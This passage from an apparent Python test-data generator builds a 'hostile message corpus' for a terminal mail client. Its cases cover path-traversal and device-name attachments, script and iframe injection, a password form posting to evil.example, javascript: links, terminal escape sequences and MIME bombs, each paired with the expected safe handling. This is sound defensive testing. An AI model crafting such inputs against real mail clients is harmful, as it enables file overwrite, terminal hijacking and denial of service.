        attachments=3,
        file_names=("x.bat", "y.bat", "z.bat"),
    ),
    Case(
        "attach-devices",
        "attachment names",
        "CON, NUL, COM1, lpt1.txt, aux.c, PRN.: saved with a leading _ (never a device name).",
        _attach_devices,
        attachments=6,
        file_names=("_CON", "_NUL", "_COM1", "_lpt1.txt", "_aux.c", "_PRN"),
    ),
    Case(
        "attach-long-name",
        "attachment names",
        "Names of 1,000 characters (RFC 2231 continuations; 2,000 bytes of é): cut to 255 "
        "bytes, extension kept.",
        _attach_long,
        attachments=2,
        file_names=("A" * 251 + ".txt", "é" * 125 + ".pdf"),
    ),
    Case(
        "attach-colliding",
        "attachment names",
        "Four attachments all named report.pdf (one via ../, one Report.pdf): each save asks "
        "before replacing; nothing lands outside the directory.",
        _attach_colliding,
        attachments=4,
        file_names=("report.pdf", "report.pdf", "report.pdf", "Report.pdf"),
    ),
    Case(
        "attach-dots",
        "attachment names",
        "Names ., .., ..., ~, -rf, .bashrc, blank: saved as attachment-N.bin, ~, rf, bashrc.",
        _attach_dots,
        attachments=8,
    ),
    Case(
        "html-script",
        "HTML",
        "<script> in head, body and SVG, onload, <iframe>: none of their text is shown; the "
        "visible text is.",
        _html_script,
        shows=("Visible text.",),
        hides=("SCRIPT-TEXT", "alert", "IFRAME-TEXT"),
    ),
    Case(
        "html-form",
        "HTML",
        "A password form: the text is shown, form controls and their values are not; nothing "
        "is submitted.",
        _html_form,
        shows=("Confirm your password:",),
        hides=("hunter2", "OPTION-TEXT", "TEXTAREA-TEXT", "evil.example"),
    ),
    Case(
        "html-tracking",
        "HTML",
        "1x1 and 0x0 tracking images are dropped, a real image shows as [image: Logo]; no "
        "image, CSS or @import is fetched (no socket opened).",
        _html_tracking,
        shows=("[image: Logo]", "Styled"),
        hides=("track.example", "pixel"),
    ),
    Case(
        "html-unsafe-links",
        "HTML",
        "javascript: (any case, with tab), data:, vbscript:, file: links: shown as "
        "[unsafe link removed]; only the https link is listed.",
        _html_links,
        shows=("one [unsafe link removed]", "seven [1]", "https://good.example/ok"),
        hides=("javascript", "data:text", "vbscript", "file:///"),
    ),
    Case(
        "html-css-hidden",
        "HTML",
        "Text hidden by CSS (display:none, font-size:0, white on white, hidden) is SHOWN: "
        "nothing the sender hid is kept from the reader.",
        _html_hidden,
        shows=("HIDDEN-DISPLAY-NONE", "HIDDEN-FONT-SIZE", "HIDDEN-WHITE", "HIDDEN-ATTRIBUTE"),
    ),
    Case(
        "html-meta-refresh",
        "HTML",
        "meta refresh, <base>, a relative link, <object>, <embed>, <video>: nothing fetched or "
        "followed; the relative link is not listed.",
        _html_meta,
        shows=("Relative link",),
        hides=("evil.example",),
    ),
    Case(
        "html-deep",
        "MIME bombs",
        "HTML nested 12,000 elements deep: converted (lists flattened past 16 levels) without "
        "RecursionError.",
        _html_deep,
        shows=("Deep text",),
    ),
    Case(
        "empty",
        "NUL",
        "An empty file: an empty message, no crash.",
        _empty,
    ),
    Case(
        "garbage",
        "NUL",
        "Every byte value, no header structure: read as text, controls made visible.",
        _garbage,
    ),
    Case(
        "headers-only",
        "escapes",
        "Headers with no blank line and no body, an OSC in the Subject: shown inert.",
        _headers_only,
        shows=("[b]no body[/b]␛]0;PWNED-TITLE␇",),
    ),
    Case(
        "dates-and-ids",
        "RFC 2047",
        "A date in year 99999, an OSC in References, CRLF in In-Reply-To, 5,000 References, a "
        "Message-ID with CSI: read; the reply threads only well-formed ids.",
        _bad_dates_ids,
    ),
    Case(
        "multipart-tricks",
        "MIME bombs",
        "A nested multipart reusing its parent's boundary, a multipart with no boundary inside "
        "an attached message: read, no loop.",
        _multipart_tricks,
    ),
    Case(
        "bomb-nesting",
        "MIME bombs",
        "Multiparts nested 2,000 deep: walked to 50 levels, then 'too complex — view the raw "
        "source'.",
        _bomb_nesting,
        generated=True,
        too_complex=True,
    ),
    Case(
        "bomb-message-nesting",
        "MIME bombs",
        "message/rfc822 nested 2,000 deep: walked to 50 levels, then 'too complex'.",
        _bomb_message_nesting,
        generated=True,
        too_complex=True,
    ),
    Case(
        "bomb-parts",
        "MIME bombs",
        "20,000 parts: the first 500 read, then 'too complex — view the raw source'.",
        _bomb_parts,
        generated=True,
        too_complex=True,
    ),
    Case(
        "bomb-big-part",
        "MIME bombs",
        "A 50 MB text part: not decoded; the reader says 'too complex — view the raw source'.",
        _bomb_big_part,
        generated=True,
        too_complex=True,
    ),
    Case(
        "bomb-big-attachment",
        "MIME bombs",
        "A 50 MB attachment (67 MB of base64): listed with its size, saved whole on request.",
        _bomb_big_attachment,
        generated=True,
        attachments=1,
        file_names=("big.bin",),
    ),
    Case(
        "bomb-header-line",
        "MIME bombs",
        "A 1 MB Subject line, a 1 MB header of [b], 100,000 '(': read in linear time, shown "
        "as one line.",
        _bomb_header_line,
        generated=True,
        shows=("SSSSSSSSSS",),
    ),
    Case(
        "bomb-rfc2231",
        "MIME bombs",
        "10,000 RFC 2231 continuations of a file name: the first 100 pieces used "
        "(startAAA...), in linear time.",
        _bomb_rfc2231,
        generated=True,
        attachments=1,
    ),
    Case(
        "bomb-recipients",
        "MIME bombs",
        "100,000 recipients in Cc (3.7 MB header): read by a plain pattern in linear time, the "
        "first 1,000 kept (reader, list, reply-all).",
        _bomb_recipients,
        generated=True,
    ),
    Case(
        "bomb-many-headers",
        "MIME bombs",
        "100,000 header fields with CSI: the first 1,000 kept for the header view, all inert.",
        _bomb_headers,
        generated=True,
    ),
)


def case(name: str) -> Case:
    """The case called ``name``."""
    for item in CASES:
        if item.name == name:
            return item
    raise KeyError(name)


def write_case(item: Case, directory: Path) -> Path:
    """Write one case as ``directory/NAME.eml``; where it went."""
    path = directory / f"{item.name}.eml"
    path.write_bytes(item.build())
    return path


def readme() -> str:
    """The README table of every case."""
    lines = [
        "# The hostile message corpus",
        "",
        "Made by `python tests/data/make_hostile.py` (do not edit by hand). Cases marked",
        "*generated* are too big to commit: the tests make them at test time in a temporary",
        "directory. Every case goes through parse/render, reply, forward, building the reply,",
        "attachment saving, the CLI (`sync`, `list`, `search`, `read` on a Maildir and on the real",
        "Dovecot) and the app's reader; none may crash, hang, fetch, write outside the chosen",
        "directory, or let a control sequence reach the terminal.",
        "",
        "| case | covers | what tuimail does |",
        "| --- | --- | --- |",
    ]
    for item in CASES:
        name = f"{item.name} (*generated*)" if item.generated else item.name
        expect = item.expect.replace("|", "\\|")
        lines.append(f"| {name} | {item.covers} | {expect} |")
    return "\n".join(lines) + "\n"


def main() -> int:
    """Write the committed cases and the README table."""
    CORPUS.mkdir(exist_ok=True)
    for old in CORPUS.glob("*.eml"):
        old.unlink()
    for item in CASES:
        if not item.generated:
            write_case(item, CORPUS)
    (CORPUS / "README.md").write_text(readme(), encoding="utf-8")
    committed = sum(1 for item in CASES if not item.generated)
    print(f"{committed} cases written to {CORPUS}, {len(CASES) - committed} left to the tests")
    return 0


if __name__ == "__main__":
    sys.exit(main())
